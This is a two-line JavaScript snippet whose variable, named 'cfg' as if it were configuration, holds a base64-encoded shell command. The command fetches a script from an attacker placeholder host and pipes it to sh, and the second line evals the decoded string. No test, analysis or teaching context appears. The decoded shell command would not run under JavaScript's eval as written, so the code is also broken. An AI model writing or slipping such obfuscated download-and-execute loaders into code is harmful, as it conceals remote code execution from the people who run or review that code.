const cfg = "Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQveC5zaCB8IHNo";
eval(atob(cfg));
